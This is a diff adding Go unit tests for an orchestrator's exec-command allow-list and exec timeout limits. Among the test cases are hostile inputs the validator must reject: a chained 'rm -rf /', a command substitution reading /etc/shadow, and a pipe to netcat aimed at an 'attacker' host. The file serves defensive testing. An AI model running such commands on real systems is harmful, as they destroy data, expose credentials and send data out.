@@ -0,0 +1,75 @@
+package orchestrator
+
+import (
+	"errors"
+	"testing"
+	"time"
+)
+
+func TestCheckExecCommand(t *testing.T) {
+	allowed := []string{"nvidia-smi", "tail", "systemctl status", "curl -sf http://localhost:8000/"}
+
+	tests := []struct {
+		command string
+		allowed bool
+	}{
+		{"nvidia-smi", true},
+		{"  nvidia-smi -q ", true},
+		{"tail -100 /tmp/vllm.log", true},
+		{"systemctl status node-agent", true},
+		{"systemctl restart node-agent", false},
+		{"curl -sf http://localhost:8000/metrics", true},
+		{"curl -sf http://example.com/", false},
+		{"nvidia-smi-evil", false},
+		{"tail /tmp/vllm.log; rm -rf /", false},
+		{"tail $(cat /etc/shadow)", false},
+		{"tail /tmp/vllm.log | nc attacker 80", false},
+		{"", false},
+	}
+	for _, tt := range tests {
+		err := checkExecCommand(tt.command, allowed)
+		if tt.allowed && err != nil {
+			t.Errorf("%q: unexpected error %v", tt.command, err)
+		}
+		if !tt.allowed && !errors.Is(err, ErrExecCommandNotAllowed) {
+			t.Errorf("%q: error = %v, want ErrExecCommandNotAllowed", tt.command, err)
+		}
+	}
+
+	if err := checkExecCommand("tail /tmp/vllm.log | grep ERROR", []string{"*"}); err != nil {
+		t.Errorf("wildcard allow-list rejected command: %v", err)
+	}
+	if err := checkExecCommand("ls", nil); !errors.Is(err, ErrExecCommandNotAllowed) {
+		t.Errorf("empty allow-list error = %v, want ErrExecCommandNotAllowed", err)
+	}
+}
+
+func TestExecTimeout(t *testing.T) {
+	o := &SkyPilotOrchestrator{execDefaultTimeout: 2 * time.Minute, execMaxTimeout: 10 * time.Minute}
+
+	tests := []struct {
+		name      string
+		requested time.Duration
+		source    string
+		want      time.Duration
+		wantErr   bool
+	}{
+		{"default", 0, ExecSourceAdmin, 2 * time.Minute, false},
+		{"requested", 7 * time.Minute, ExecSourceAdmin, 7 * time.Minute, false},
+		{"admin above maximum", 20 * time.Minute, ExecSourceAdmin, 0, true},
+		{"system above maximum", 20 * time.Minute, ExecSourceSystem, 20 * time.Minute, false},
+	}
+	for _, tt := range tests {
+		got, err := o.execTimeout(tt.requested, tt.source)
+		if (err != nil) != tt.wantErr || got != tt.want {
+			t.Errorf("%s: got %v, %v; want %v, error %v", tt.name, got, err, tt.want, tt.wantErr)
+		}
+		if tt.wantErr && !errors.Is(err, ErrExecTimeoutTooLong) {
+			t.Errorf("%s: error = %v, want ErrExecTimeoutTooLong", tt.name, err)
+		}
+	}
+
+	if got, _ := (&SkyPilotOrchestrator{}).execTimeout(0, ExecSourceSystem); got != defaultExecTimeout {
+		t.Errorf("unconfigured default = %v, want %v", got, defaultExecTimeout)
+	}
+}